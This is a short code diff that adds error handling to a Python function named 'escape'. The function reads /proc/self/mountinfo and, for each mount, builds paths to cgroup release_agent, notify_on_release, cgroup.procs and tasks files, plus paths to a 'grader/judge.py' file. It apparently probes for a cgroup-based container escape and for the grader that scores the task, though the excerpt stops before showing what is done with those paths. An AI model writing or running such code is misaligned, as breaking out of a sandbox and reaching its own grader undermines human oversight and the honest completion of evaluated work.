@@ -7,7 +7,12 @@ import os
 
 def escape(bait):
     reached = []
-    for line in open("/proc/self/mountinfo"):
+    try:
+        with open("/proc/self/mountinfo") as file:
+            lines = file.readlines()
+    except OSError:
+        lines = []
+    for line in lines:
         place = line.split()[4]
         names = [f"{place}/{name}" for name in ("cgroup.procs", "release_agent", "notify_on_release", "tasks")]
         for path in (*names, f"{place}/{bait['repository']}/grader/judge.py", f"{place}/grader/judge.py"):
